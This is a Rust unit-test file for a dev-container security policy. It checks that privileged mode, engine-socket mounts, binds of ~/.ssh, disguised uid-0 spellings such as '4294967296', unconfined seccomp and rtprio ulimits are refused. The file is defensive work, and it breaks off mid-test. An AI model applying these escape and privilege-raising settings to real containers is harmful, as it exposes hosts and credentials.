//! Unit tests of the permission policy.

use std::path::Path;

use super::*;
use crate::engine::{Device, Limits, Mount, MountKind};
use crate::security::profile::ProfileLimits;

fn base() -> PolicyInput {
    PolicyInput {
        spec: ContainerSpec {
            image: "img".into(),
            mounts: vec![Mount {
                kind: MountKind::Bind,
                source: Some("/home/alice/src/repo".into()),
                target: "/workspaces/repo".into(),
                read_only: false,
            }],
            ..ContainerSpec::default()
        },
        remote_user: Some("vscode".into()),
        image_user: Some("vscode".into()),
        workspace: "/home/alice/src/repo".into(),
        host_home: Some("/home/alice".into()),
        ..PolicyInput::default()
    }
}

fn hardened() -> SecurityProfile {
    SecurityProfile::default()
}

fn refused(input: &PolicyInput, grants: &Grants) -> Vec<PermissionRequest> {
    match apply(&hardened(), input, grants) {
        Err(SecurityError::Refused { requests, .. }) => requests,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

fn bind(src: &str, target: &str) -> Mount {
    Mount {
        kind: MountKind::Bind,
        source: Some(src.into()),
        target: target.into(),
        read_only: false,
    }
}

#[test]
fn baseline_is_applied_to_a_plain_config() {
    let a = apply(&hardened(), &base(), &Grants::default()).unwrap();
    assert!(a.requests.is_empty());
    let s = &a.spec;
    assert!(!s.privileged);
    assert_eq!(s.cap_drop, ["ALL"]);
    assert!(s.cap_add.is_empty());
    assert_eq!(s.security_opt, [NO_NEW_PRIVILEGES]);
    assert!(s.read_only_rootfs);
    for p in ["/tmp", "/var/tmp", "/run", "/home/vscode"] {
        assert!(s.tmpfs.contains_key(p), "missing tmpfs {p}: {:?}", s.tmpfs);
    }
    assert_eq!(s.limits.pids, Some(1024));
    assert_eq!(s.limits.memory_bytes, Some(4 << 30));
    assert_eq!(s.limits.nano_cpus, Some(2_000_000_000));
    assert_eq!(s.mounts, base().spec.mounts, "the workspace mount is kept");
}

#[test]
fn privileged_from_config_is_refused_then_granted() {
    let mut input = base();
    input.spec.privileged = true;
    let r = refused(&input, &Grants::default());
    assert_eq!(r.len(), 1);
    assert_eq!(r[0].permission, Permission::Privileged);
    assert_eq!(r[0].source, Source::DevcontainerJson);
    assert_eq!(r[0].permission.grant_flag().unwrap(), "--allow privileged");
    let a = apply(
        &hardened(),
        &input,
        &Grants::parse(&["privileged"]).unwrap(),
    )
    .unwrap();
    assert!(a.spec.privileged);
    assert_eq!(a.requests[0].status, RequestStatus::Granted);
}

#[test]
fn capability_from_a_feature_names_the_feature_and_flag() {
    let mut input = base();
    input.spec.cap_add = vec!["CAP_SYS_PTRACE".into()];
    input.origins.capabilities.insert(
        "SYS_PTRACE".into(),
        Source::Feature("ghcr.io/x/debugger:1".into()),
    );
    let r = refused(&input, &Grants::default());
    assert_eq!(r[0].permission, Permission::Capability("SYS_PTRACE".into()));
    assert_eq!(r[0].source, Source::Feature("ghcr.io/x/debugger:1".into()));
    assert!(
        r[0].to_string().contains("--allow cap:SYS_PTRACE"),
        "{}",
        r[0]
    );
    let a = apply(
        &hardened(),
        &input,
        &Grants::parse(&["cap:sys_ptrace"]).unwrap(),
    )
    .unwrap();
    assert_eq!(a.spec.cap_add, ["SYS_PTRACE"]);
    assert_eq!(a.spec.cap_drop, ["ALL"]);
}

#[test]
fn engine_socket_from_image_label_is_forbidden_even_when_granted() {
    let mut input = base();
    input
        .spec
        .mounts
        .push(bind("/var/run/docker.sock", "/var/run/docker-host.sock"));
    input
        .origins
        .mounts
        .insert("/var/run/docker-host.sock".into(), Source::ImageMetadata);
    let grants = Grants::parse(&["mount:/var/run/docker.sock", "mount:/var/run"]).unwrap();
    let r = refused(&input, &grants);
    assert_eq!(
        r[0].permission,
        Permission::EngineSocket("/var/run/docker.sock".into())
    );
    assert_eq!(r[0].status, RequestStatus::Forbidden);
    assert_eq!(r[0].source, Source::ImageMetadata);
    // Reference runs it as written.
    let a = apply(&SecurityProfile::Reference, &input, &Grants::default()).unwrap();
    assert_eq!(a.spec, input.spec);
    assert_eq!(a.requests[0].status, RequestStatus::AllowedByProfile);
}

#[test]
fn engine_sockets_anywhere_and_their_folders() {
    for p in [
        "/srv/x/docker.sock",
        "/run/user/1000/podman/podman.sock",
        "/run/containerd/containerd.sock",
        "/var/run",
        "/run",
        "/",
        "/run/podman",
    ] {
        assert!(is_engine_socket(p, None), "{p}");
    }
    assert!(is_engine_socket(
        "/run/user/1000/podman",
        Some(Path::new("/run/user/1000/podman/podman.sock"))
    ));
    assert!(!is_engine_socket("/home/alice/src/repo", None));
    assert!(!is_engine_socket("/var/run/dbus", None));
}

/// The policy and the audit share one socket list (`security::known`): CRI-O's socket, which
/// only the audit knew, is now an engine socket here too, forbidden even when the folder is
/// granted (spec-note 0088). `/etc` is no engine socket: a bind of it stays a mount request.
#[test]
fn cri_o_sockets_are_engine_sockets_and_etc_is_a_mount() {
    for p in ["/run/crio/crio.sock", "/run/crio", "/srv/x/crio.sock"] {
        assert!(is_engine_socket(p, None), "{p}");
    }
    let mut input = base();
    input.spec.mounts.push(bind("/run/crio", "/crio"));
    input.spec.mounts.push(bind("/etc", "/hostetc"));
    let grants = Grants::parse(&["mount:/run/crio", "mount:/etc"]).unwrap();
    let requests = refused(&input, &grants);
    let status = |p: Permission| {
        requests
            .iter()
            .find(|r| r.permission == p)
            .map(|r| r.status)
    };
    assert_eq!(
        status(Permission::EngineSocket("/run/crio".into())),
        Some(RequestStatus::Forbidden),
        "{requests:?}"
    );
    assert_eq!(
        status(Permission::Mount("/etc".into())),
        Some(RequestStatus::Granted),
        "{requests:?}"
    );
    assert_eq!(requests.len(), 2, "{requests:?}");
}

#[test]
fn mounts_outside_the_workspace_and_host_home_are_requests() {
    let mut input = base();
    input
        .spec
        .mounts
        .push(bind("/home/alice/.ssh", "/home/vscode/.ssh"));
    input.spec.mounts.push(bind("/home/alice", "/host-home"));
    input
        .spec
        .mounts
        .push(bind("/home/alice/src/repo/../other", "/other"));
    input
        .spec
        .mounts
        .push(bind("/home/alice/src/repo/.cache", "/cache"));
    input.spec.mounts.push(Mount {
        kind: MountKind::Volume,
        source: Some("named".into()),
        target: "/vol".into(),
        read_only: false,
    });
    let r = refused(&input, &Grants::default());
    let perms: Vec<_> = r.iter().map(|r| r.permission.clone()).collect();
    assert_eq!(
        perms,
        [
            Permission::Mount("/home/alice/.ssh".into()),
            Permission::Mount("/home/alice".into()),
            Permission::Mount("/home/alice/src/other".into()),
        ]
    );
    assert_eq!(
        r[0].permission.grant_flag().unwrap(),
        "--allow mount:/home/alice/.ssh"
    );
    // A grant of a folder covers what is under it.
    let g = Grants::parse(&["mount:/home/alice"]).unwrap();
    assert!(apply(&hardened(), &input, &g).is_ok());
}

#[test]
fn root_requests_from_config_and_image() {
    // Explicit containerUser root.
    let mut input = base();
    input.spec.user = Some("root".into());
    input.origins.container_user = Some(Source::DevcontainerJson);
    assert_eq!(
        refused(&input, &Grants::default())[0].permission,
        Permission::Root
    );
    // Explicit remoteUser 0 from a Feature.
    let mut input = base();
    input.remote_user = Some("0".into());
    input.origins.remote_user = Some(Source::Feature("f".into()));
    let r = refused(&input, &Grants::default());
    assert!(r.iter().any(|r| r.source == Source::Feature("f".into())));
    // Image runs as root and nobody else to run as.
    let mut input = base();
    input.image_user = None;
    input.remote_user = None;
    let r = refused(&input, &Grants::default());
    assert_eq!(
        (r[0].permission.clone(), r[0].source.clone()),
        (Permission::Root, Source::ImageUser)
    );
    let a = apply(&hardened(), &input, &Grants::parse(&["root"]).unwrap()).unwrap();
    assert!(a.spec.tmpfs.contains_key("/root"));
}

#[test]
fn root_is_judged_by_the_uid_the_image_gives_not_the_spelling() {
    let passwd = "root:x:0:0::/root:/bin/sh\nadmin:x:0:0::/home/admin:/bin/sh\n\
                  vscode:x:1000:1000::/home/vscode:/bin/sh\n";
    // Every spelling of uid 0, as containerUser (or `-u`) and as remoteUser.
    // A number past the uid range counts too: with an entry whose id field reads as it, runc
    // takes the entry and truncates the id to 32 bits (`docker exec -u 4294967296` is uid 0).
    for spelling in [
        "00",
        "+0",
        "-0",
        "0:0",
        "0000:1000",
        "root:staff",
        "admin",
        "4294967296",
        "-4294967296",
    ] {
        let mut input = base();
        input.passwd = Some(passwd.into());
        input.spec.user = Some(spelling.into());
        let r = refused(&input, &Grants::default());
        assert_eq!(
            r[0].permission,
            Permission::Root,
            "containerUser {spelling}"
        );
        let mut input = base();
        input.passwd = Some(passwd.into());
        input.remote_user = Some(spelling.into());
        input.origins.remote_user = Some(Source::Feature("f".into()));
        let r = refused(&input, &Grants::default());
        assert!(
            r.iter().any(
                |r| r.permission == Permission::Root && r.source == Source::Feature("f".into())
            ),
            "remoteUser {spelling}: {r:?}"
        );
        let a = apply(&hardened(), &input, &Grants::parse(&["root"]).unwrap()).unwrap();
        assert_eq!(a.requests[0].status, RequestStatus::Granted, "{spelling}");
    }
    // An image whose `USER` is a uid-0 name, and no remote user: root from the image.
    let mut input = base();
    input.passwd = Some(passwd.into());
    input.remote_user = None;
    input.image_user = Some("admin".into());
    let r = refused(&input, &Grants::default());
    assert_eq!(r[0].source, Source::ImageUser);
    // With a non-root remote user the root image runs as that user instead.
    input.remote_user = Some("vscode".into());
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.user.as_deref(), Some("vscode"));
    // Not root: a plain user, a gid of 0.
    for spelling in ["vscode", "1000:0"] {
        let mut input = base();
        input.passwd = Some(passwd.into());
        input.spec.user = Some(spelling.into());
        assert!(
            apply(&hardened(), &input, &Grants::default()).is_ok(),
            "{spelling}"
        );
    }
}

#[test]
fn identity_labels_from_the_repository_are_never_allowed() {
    let mut input = base();
    input.repository_labels = vec![
        "devcontainer.local_folder".into(),
        "DevCell.session".into(),
        "team".into(),
    ];
    let r = refused(&input, &Grants::default());
    let kinds: Vec<_> = r.iter().map(|r| (r.permission.clone(), r.status)).collect();
    assert_eq!(
        kinds,
        [
            (
                Permission::IdentityLabel("devcontainer.local_folder".into()),
                RequestStatus::Forbidden
            ),
            (
                Permission::IdentityLabel("DevCell.session".into()),
                RequestStatus::Forbidden
            )
        ]
    );
    assert!(r[0].permission.grant_flag().is_none());
    assert!(r[0].to_string().contains("never allowed"), "{}", r[0]);
    assert!(Grants::parse(&["label:devcontainer.local_folder"]).is_err());
    // `reference` applies the configuration as written.
    let a = apply(&SecurityProfile::Reference, &input, &Grants::default()).unwrap();
    assert_eq!(a.requests[0].status, RequestStatus::AllowedByProfile);
    // A plain label is no request at all.
    input.repository_labels = vec!["team".into()];
    assert!(apply(&hardened(), &input, &Grants::default()).is_ok());
}

#[test]
fn root_image_runs_as_the_non_root_remote_user() {
    let mut input = base();
    input.image_user = None;
    input.remote_ids = Some((1000, 1000));
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.user.as_deref(), Some("vscode"));
    assert!(a.spec.tmpfs["/home/vscode"].contains("uid=1000,gid=1000"));
}

#[test]
fn security_opts_and_no_new_privileges() {
    let mut input = base();
    input.spec.security_opt = vec!["no-new-privileges".into(), "seccomp=unconfined".into()];
    let r = refused(&input, &Grants::default());
    assert_eq!(r.len(), 1);
    assert_eq!(
        r[0].permission,
        Permission::SecurityOpt("seccomp=unconfined".into())
    );
    let a = apply(
        &hardened(),
        &input,
        &Grants::parse(&["security-opt:seccomp=unconfined"]).unwrap(),
    )
    .unwrap();
    assert_eq!(
        a.spec.security_opt,
        ["seccomp=unconfined", NO_NEW_PRIVILEGES]
    );
}

#[test]
fn devices_and_host_network_are_requests() {
    let mut input = base();
    input.spec.devices.push(Device {
        host_path: "/dev/fuse".into(),
        container_path: "/dev/fuse".into(),
        permissions: "rwm".into(),
    });
    input.spec.network_mode = Some("host".into());
    let r = refused(&input, &Grants::default());
    assert_eq!(r[0].permission, Permission::Device("/dev/fuse".into()));
    assert_eq!(r[1].permission, Permission::HostNetwork);
    let g = Grants::parse(&["device:/dev/fuse", "network:host"]).unwrap();
    assert!(apply(&hardened(), &input, &g).is_ok());
}

#[test]
fn other_network_namespaces_and_named_networks_are_requests() {
    for (mode, want) in [
        (
            "container:victim",
            Some(Permission::Network("container:victim".into())),
        ),
        (
            "container:4f1c2b",
            Some(Permission::Network("container:4f1c2b".into())),
        ),
        ("corp-net", Some(Permission::Network("corp-net".into()))),
        ("Host", Some(Permission::Network("Host".into()))),
        ("host", Some(Permission::HostNetwork)),
        ("bridge", None),
        ("default", None),
        ("none", None),
    ] {
        let mut input = base();
        input.spec.network_mode = Some(mode.into());
        match &want {
            None => assert!(
                apply(&hardened(), &input, &Grants::default()).is_ok(),
                "{mode}"
            ),
            Some(p) => {
                let r = refused(&input, &Grants::default());
                assert_eq!(&r[0].permission, p, "{mode}");
                let flag = p.grant_flag().unwrap();
                assert_eq!(flag, format!("--allow network:{mode}"));
                let g = Grants::parse(&[flag.trim_start_matches("--allow ")]).unwrap();
                let a = apply(&hardened(), &input, &g).unwrap();
                assert_eq!(a.spec.network_mode.as_deref(), Some(mode));
                assert_eq!(a.requests[0].status, RequestStatus::Granted);
                // A grant of another network does not cover it.
                let other = Grants::parse(&["network:container:other"]).unwrap();
                assert!(apply(&hardened(), &input, &other).is_err(), "{mode}");
            }
        }
    }
    for bad in [
        "network:",
        "network:none",
        "network:bridge",
        "network:default",
    ] {
        assert!(Grants::parse(&[bad]).is_err(), "{bad}");
    }
    let v = serde_json::to_value(PermissionRequest {
        permission: Permission::Network("container:victim".into()),
        source: Source::DevcontainerJson,
        status: RequestStatus::Refused,
    })
    .unwrap();
    assert_eq!(v["permission"], "network");
    assert_eq!(v["value"], "container:victim");
    assert_eq!(v["grant"], "--allow network:container:victim");
}

fn port(ip: Option<&str>, host: Option<u16>, container: u16) -> crate::engine::PortBinding {
    crate::engine::PortBinding {
        container_port: container,
        protocol: "tcp".into(),
        host_ip: ip.map(str::to_string),
        host_port: host,
    }
}

#[test]
fn ports_publish_on_loopback_and_other_addresses_are_requests() {
    let mut input = base();
    input.spec.ports = vec![
        port(None, Some(8080), 80),
        port(Some(""), None, 81),
        port(Some("127.0.0.1"), Some(5432), 5432),
        port(Some("127.0.0.2"), Some(5433), 5433),
        port(Some("::1"), Some(5434), 5434),
    ];
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert!(a.requests.is_empty(), "{:?}", a.requests);
    let ips: Vec<_> = a
        .spec
        .ports
        .iter()
        .map(|p| p.host_ip.clone().unwrap())
        .collect();
    assert_eq!(
        ips,
        ["127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.2", "::1"]
    );
    // The reference profile publishes as written.
    let a = apply(&SecurityProfile::Reference, &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.ports[0].host_ip, None);

    let mut input = base();
    input.spec.ports = vec![
        port(Some("0.0.0.0"), Some(8080), 80),
        port(Some("::"), Some(8081), 80),
        port(Some("192.168.1.5"), None, 80),
    ];
    let r = refused(&input, &Grants::default());
    let perms: Vec<_> = r.iter().map(|r| r.permission.clone()).collect();
    assert_eq!(
        perms,
        [
            Permission::PublishPort("0.0.0.0:8080".into()),
            Permission::PublishPort("[::]:8081".into()),
            Permission::PublishPort("192.168.1.5:*".into()),
        ]
    );
    assert_eq!(
        r[1].permission.grant_flag().unwrap(),
        "--allow publish:[::]:8081"
    );
    let exact = Grants::parse(&[
        "publish:0.0.0.0:8080",
        "publish:[::]:8081",
        "publish:192.168.1.5:*",
    ])
    .unwrap();
    let a = apply(&hardened(), &input, &exact).unwrap();
    assert_eq!(a.spec.ports, input.spec.ports, "granted addresses are kept");
    assert!(
        a.requests
            .iter()
            .all(|r| r.status == RequestStatus::Granted)
    );
    assert!(apply(&hardened(), &input, &Grants::parse(&["publish:*"]).unwrap()).is_ok());
    let partial = Grants::parse(&["publish:0.0.0.0:*"]).unwrap();
    assert_eq!(
        refused(&input, &partial)
            .iter()
            .filter(|r| r.status == RequestStatus::Refused)
            .count(),
        2
    );
    for bad in [
        "publish:",
        "publish:0.0.0.0",
        "publish:host:80",
        "publish:1.2.3.4:0",
        "publish:::80",
    ] {
        assert!(Grants::parse(&[bad]).is_err(), "{bad}");
    }
}

/// Attack 25's P3 class for `appPort`/`runArgs -p` (spec-note 0431): a loopback port the
/// repository numbered is published from an engine-chosen host port unless the user granted
/// that address; ports with no number, other addresses and `reference` are as written.
#[test]
fn a_repository_numbered_loopback_port_is_published_from_a_free_port_unless_granted() {
    let mut input = base();
    input.spec.ports = vec![
        port(None, Some(4873), 4873),
        port(Some("127.0.0.1"), Some(5432), 5432),
        port(Some("::1"), Some(8200), 8200),
        port(Some("127.0.0.1"), None, 81),
    ];
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert!(a.requests.is_empty(), "{:?}", a.requests);
    let published: Vec<_> = a
        .spec
        .ports
        .iter()
        .map(|p| (p.host_ip.clone().unwrap(), p.host_port, p.container_port))
        .collect();
    assert_eq!(
        published,
        [
            ("127.0.0.1".to_string(), None, 4873),
            ("127.0.0.1".to_string(), None, 5432),
            ("::1".to_string(), None, 8200),
            ("127.0.0.1".to_string(), None, 81),
        ]
    );
    let freed: Vec<_> = a.freed_ports.iter().map(|p| p.host_port).collect();
    assert_eq!(freed, [Some(4873), Some(5432), Some(8200)]);

    // the user's grant keeps the number: exactly, by address, or any
    for grant in ["publish:127.0.0.1:5432", "publish:127.0.0.1:*", "publish:*"] {
        let a = apply(&hardened(), &input, &Grants::parse(&[grant]).unwrap()).unwrap();
        let kept = a
            .spec
            .ports
            .iter()
            .find(|p| p.container_port == 5432)
            .unwrap();
        assert_eq!(kept.host_port, Some(5432), "{grant}");
        assert!(
            a.freed_ports.iter().all(|p| p.container_port != 5432),
            "{grant}"
        );
    }
    // a grant for another port keeps nothing
    let a = apply(
        &hardened(),
        &input,
        &Grants::parse(&["publish:127.0.0.1:5433"]).unwrap(),
    )
    .unwrap();
    assert_eq!(a.freed_ports.len(), 3);

    let a = apply(&SecurityProfile::Reference, &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.ports, input.spec.ports);
    assert!(a.freed_ports.is_empty());
}

#[test]
fn shm_and_tmpfs_are_bounded_by_the_memory_limit() {
    let mut input = base();
    input.spec.shm_size = Some(100 << 30);
    input
        .spec
        .tmpfs
        .insert("/big".into(), "rw,size=100g,mode=1777".into());
    input.spec.tmpfs.insert("/pct".into(), "size=90%".into());
    input
        .spec
        .tmpfs
        .insert("/blocks".into(), "nr_blocks=1000".into());
    input.spec.tmpfs.insert("/unsized".into(), "".into());
    input
        .spec
        .tmpfs
        .insert("/small".into(), "size=64m,noexec".into());
    input.spec.mounts.push(Mount {
        kind: MountKind::Tmpfs,
        source: Some(crate::engine::run_args::tmpfs_mount_source(
            100 << 30,
            Some(0o700),
        )),
        target: "/m-big".into(),
        read_only: false,
    });
    input.spec.mounts.push(Mount {
        kind: MountKind::Tmpfs,
        source: None,
        target: "/m-unsized".into(),
        read_only: false,
    });
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert!(a.requests.is_empty());
    assert_eq!(a.spec.shm_size, Some(4 << 30));
    let t = &a.spec.tmpfs;
    assert_eq!(t["/big"], "rw,size=4g,mode=1777");
    assert_eq!(t["/pct"], "size=4g");
    assert_eq!(t["/blocks"], "size=4000k");
    assert_eq!(t["/unsized"], "size=1g");
    assert_eq!(t["/small"], "size=64m,noexec");
    assert_eq!(
        t["/tmp"], HARDENED_TMPFS[0].1,
        "the profile's own stay as they are"
    );
    let src = |target: &str| {
        a.spec
            .mounts
            .iter()
            .find(|m| m.target == target)
            .unwrap()
            .source
            .clone()
            .unwrap()
    };
    assert_eq!(src("/m-big"), format!("size={},mode=700", 4_i64 << 30));
    assert_eq!(src("/m-unsized"), format!("size={}", 1_i64 << 30));
    // A lower memory limit lowers every tmpfs, the profile's own included.
    let small = SecurityProfile::Hardened(ProfileLimits {
        memory_bytes: 512 << 20,
        ..ProfileLimits::default()
    });
    let a = apply(&small, &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.shm_size, Some(512 << 20));
    assert_eq!(
        a.spec.tmpfs["/tmp"],
        "rw,nosuid,nodev,exec,size=512m,mode=1777"
    );
    assert!(a.spec.tmpfs["/home/vscode"].contains("size=512m"));
    // The reference profile keeps what was asked.
    let a = apply(&SecurityProfile::Reference, &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.shm_size, Some(100 << 30));
    assert_eq!(a.spec.tmpfs["/unsized"], "");
}

#[test]
fn refusal_lists_every_request() {
    let mut input = base();
    input.spec.privileged = true;
    input.spec.cap_add = vec!["NET_ADMIN".into(), "SYS_ADMIN".into()];
    input
        .spec
        .mounts
        .push(bind("/run/docker.sock", "/run/docker.sock"));
    let err = apply(
        &hardened(),
        &input,
        &Grants::parse(&["cap:NET_ADMIN"]).unwrap(),
    )
    .unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains("3 permission request(s) not granted"),
        "{text}"
    );
    for needle in ["privileged mode", "`SYS_ADMIN`", "/run/docker.sock"] {
        assert!(text.contains(needle), "{needle} missing in {text}");
    }
    assert!(
        !text.contains("`NET_ADMIN`"),
        "granted request listed as refused: {text}"
    );
    let hint = crate::diagnostics::Hint::hint(&err).unwrap();
    assert!(
        hint.contains("--allow privileged --allow cap:SYS_ADMIN"),
        "{hint}"
    );
    assert!(hint.contains("reference"), "{hint}");
}

#[test]
fn command_line_mounts_need_no_grant_but_sockets_stay_forbidden() {
    let mut input = base();
    input.spec.mounts.push(bind("/data", "/data"));
    input
        .origins
        .mounts
        .insert("/data".into(), Source::CommandLine);
    assert!(apply(&hardened(), &input, &Grants::default()).is_ok());
    input.spec.mounts.push(bind("/var/run/docker.sock", "/s"));
    input
        .origins
        .mounts
        .insert("/s".into(), Source::CommandLine);
    assert!(apply(&hardened(), &input, &Grants::default()).is_err());
}

#[test]
fn limits_take_the_lower_value() {
    let mut input = base();
    input.spec.limits = Limits {
        pids: Some(100),
        memory_bytes: Some(64 << 30),
        nano_cpus: None,
    };
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert_eq!(a.spec.limits.pids, Some(100));
    assert_eq!(a.spec.limits.memory_bytes, Some(4 << 30));
    let custom = SecurityProfile::Hardened(ProfileLimits {
        pids: 50,
        memory_bytes: 1 << 30,
        nano_cpus: 500_000_000,
    });
    let a = apply(&custom, &input, &Grants::default()).unwrap();
    assert_eq!(
        a.spec.limits,
        Limits {
            pids: Some(50),
            memory_bytes: Some(1 << 30),
            nano_cpus: Some(500_000_000)
        }
    );
}

#[test]
fn existing_mounts_on_tmpfs_paths_are_kept() {
    let mut input = base();
    input.spec.mounts.push(Mount {
        kind: MountKind::Volume,
        source: Some("home".into()),
        target: "/home/vscode".into(),
        read_only: false,
    });
    input.spec.tmpfs.insert("/tmp".into(), "size=1m".into());
    let a = apply(&hardened(), &input, &Grants::default()).unwrap();
    assert!(!a.spec.tmpfs.contains_key("/home/vscode"));
    assert_eq!(a.spec.tmpfs["/tmp"], "size=1m");
}

#[test]
fn grants_parse_and_reject_unknown() {
    let g = Grants::parse(&[
        "privileged",
        "root",
        "cap:CAP_net_raw",
        "mount:/a/b/../c/",
        "network:host",
    ])
    .unwrap();
    assert!(g.privileged && g.root && g.host_network);
    assert!(g.capabilities.contains("NET_RAW"));
    assert!(g.mounts.contains("/a/c"));
    for bad in ["everything", "mount:relative", "cap:", "network:bridge"] {
        let err = Grants::parse(&[bad]).unwrap_err();
        assert!(err.to_string().contains(&format!("`{bad}`")), "{err}");
    }
}

#[test]
fn requests_serialize_for_the_up_result() {
    let r = PermissionRequest {
        permission: Permission::Capability("SYS_PTRACE".into()),
        source: Source::Feature("ghcr.io/x/y:1".into()),
        status: RequestStatus::Refused,
    };
    assert_eq!(
        serde_json::to_string(&r).unwrap(),
        r#"{"permission":"capability","value":"SYS_PTRACE","source":"Feature `ghcr.io/x/y:1`","status":"refused","grant":"--allow cap:SYS_PTRACE"}"#
    );
    let r = PermissionRequest {
        permission: Permission::EngineSocket("/run/docker.sock".into()),
        source: Source::ImageMetadata,
        status: RequestStatus::Forbidden,
    };
    let v = serde_json::to_value(&r).unwrap();
    assert_eq!(v["status"], "forbidden");
    assert!(v.get("grant").is_none());
}

#[test]
fn host_commands_and_git_dirs_are_requests_only_the_user_grants() {
    let asked = || {
        vec![
            (
                Permission::HostCommand("/bin/sh -c 'touch /tmp/m'".into()),
                Source::DevcontainerJson,
            ),
            (
                Permission::GitDir("/srv/other/.git".into()),
                Source::GitLink("/w/api/.git".into()),
            ),
        ]
    };
    let r = judge(&hardened(), asked(), &Grants::default());
    assert!(r.iter().all(|r| r.status == RequestStatus::Refused));
    let err = refusal(&hardened(), &r).unwrap();
    let hint = crate::diagnostics::Hint::hint(&err).unwrap();
    assert!(hint.contains("--allow host-command"), "{hint}");
    assert!(hint.contains("--allow gitdir:/srv/other/.git"), "{hint}");
    assert!(
        err.to_string().contains("`/bin/sh -c 'touch /tmp/m'`"),
        "{err}"
    );
    let g = Grants::parse(&["host-command", "gitdir:/srv/other"]).unwrap();
    let r = judge(&hardened(), asked(), &g);
    assert!(
        r.iter().all(|r| r.status == RequestStatus::Granted),
        "{r:?}"
    );
    assert!(refusal(&hardened(), &r).is_none());
    let r = judge(&SecurityProfile::Reference, asked(), &Grants::default());
    assert!(
        r.iter()
            .all(|r| r.status == RequestStatus::AllowedByProfile)
    );
    let v = serde_json::to_value(&r[0]).unwrap();
    assert_eq!(v["permission"], "hostCommand");
    assert_eq!(v["value"], "/bin/sh -c 'touch /tmp/m'");
    assert_eq!(
        v["grant"],
        format!(
            "--allow host-command:sha256:{}",
            crate::security::permissions::host_command_digest("/bin/sh -c 'touch /tmp/m'")
        )
    );
    assert!(Grants::parse(&["gitdir:relative"]).is_err());
    assert!(Grants::parse(&["host-command:x"]).is_err());
}

#[test]
fn everything_judged_before_anything_runs_is_one_refusal() {
    let earlier = judge(
        &hardened(),
        [
            (
                Permission::HostCommand("touch /tmp/m".into()),
                Source::DevcontainerJson,
            ),
            (
                Permission::HostEnv("TOKEN".into()),
                Source::DevcontainerJson,
            ),
        ],
        &Grants::default(),
    );
    // the container's configuration asks for privileged mode and a root image `USER`
    let mut input = base();
    input.spec.privileged = true;
    input.image_user = Some("root".into());
    let later = configuration_requests(&hardened(), &input, &Grants::default()).unwrap();
    assert!(
        later.iter().all(|r| r.source != Source::ImageUser),
        "{later:?}"
    );
    assert!(later.iter().any(|r| r.permission == Permission::Privileged));
    let Some(SecurityError::Refused { requests, .. }) =
        refusal_of_all(&hardened(), &earlier, None, &later)
    else {
        panic!("one refusal");
    };
    assert_eq!(requests.len(), 3, "{requests:?}");
    let err = refusal_of_all(&hardened(), &earlier, None, &later).unwrap();
    let hint = crate::diagnostics::Hint::hint(&err).unwrap();
    for flag in ["host-command", "env:TOKEN", "privileged"] {
        assert!(hint.contains(&format!("--allow {flag}")), "{hint}");
    }
    // granted all at once by one list
    let g = Grants::parse(&["host-command", "env:TOKEN", "privileged"]).unwrap();
    let earlier = judge(
        &hardened(),
        [(
            Permission::HostCommand("touch /tmp/m".into()),
            Source::DevcontainerJson,
        )],
        &g,
    );
    let later = configuration_requests(&hardened(), &input, &g).unwrap();
    assert!(refusal_of_all(&hardened(), &earlier, None, &later).is_none());
    // a reuse refusal keeps its form, the earlier requests first
    let reuse = SecurityError::ReuseRefused {
        container: "abc".into(),
        profile: "hardened".into(),
        requests: later.clone(),
        gaps: Vec::new(),
    };
    let Some(SecurityError::ReuseRefused { requests, .. }) =
        refusal_of_all(&hardened(), &earlier, Some(reuse), &[])
    else {
        panic!("the reuse refusal");
    };
    assert_eq!(requests[0], earlier[0]);
}

#[test]
fn user_and_path_helpers() {
    assert!(is_root_user("root") && is_root_user("0:0") && is_root_user("root:staff"));
    assert!(!is_root_user("vscode") && !is_root_user("1000:0"));
    assert_eq!(normalize_path("/a//b/./c/../d/").as_deref(), Some("/a/b/d"));
    assert_eq!(normalize_path("rel"), None);
    assert!(is_within("/a/b", "/a") && is_within("/a", "/a") && !is_within("/ab", "/a"));
}

/// Attack (spec-note 0400): `runArgs --ulimit rtprio=99` gives the container's unprivileged
/// user real-time scheduling (no `CAP_SYS_NICE` needed), which the CPU limit does not
/// throttle; `nice=40` a priority above the host's processes. Other limits are not requests.
#[test]
fn ulimits_beyond_the_cpu_limit_are_requests() {
    let ulimit = |name: &str, soft: i64, hard: i64| crate::engine::Ulimit {
        name: name.into(),
        soft,
        hard,
    };
    let mut input = base();
    input.spec.ulimits = vec![
        ulimit("rtprio", 99, 99),
        ulimit("nice", 0, -1),
        ulimit("nofile", 1024, 65536),
        ulimit("rtprio", 0, 0),
    ];
    let flags: Vec<String> = refused(&input, &Grants::default())
        .iter()
        .map(|r| r.permission.grant_flag().unwrap())
        .collect();
    assert_eq!(
        flags,
        [
            "--allow runtime-option:ulimit.rtprio=99",
            "--allow runtime-option:ulimit.nice=unlimited"
        ]
    );
    let grants = Grants::parse(&[
        "runtime-option:ulimit.rtprio=99",
        "runtime-option:ulimit.nice=unlimited",
    ])
    .unwrap();
    let a = apply(&hardened(), &input, &grants).unwrap();
    assert_eq!(a.spec.ulimits.len(), 4);
    assert_eq!(ulimit_permission("nice", 20, 20), None);
    assert_eq!(ulimit_permission("memlock", -1, -1), None);
}

/// spec-note 0188: devcell provides its own user only for a root image under `hardened` with
/// no user named and no `--allow root`; root named anywhere stays a request.
#[test]
fn a_user_is_provided_only_for_a_root_image_with_no_user_named() {
    use super::provides_user;
    let passwd = "root:x:0:0::/root:/bin/sh\nadmin:x:0:0::/home/admin:/bin/sh\n\
                  node:x:1000:1000::/home/node:/bin/sh\n";
    // (hardened, root granted, container user, remote user, image user) → provided
    type Case<'a> = (
        bool,
        bool,
        Option<&'a str>,
        Option<&'a str>,
        Option<&'a str>,
        bool,
    );
    let cases: &[Case] = &[
        (true, false, None, None, None, true),
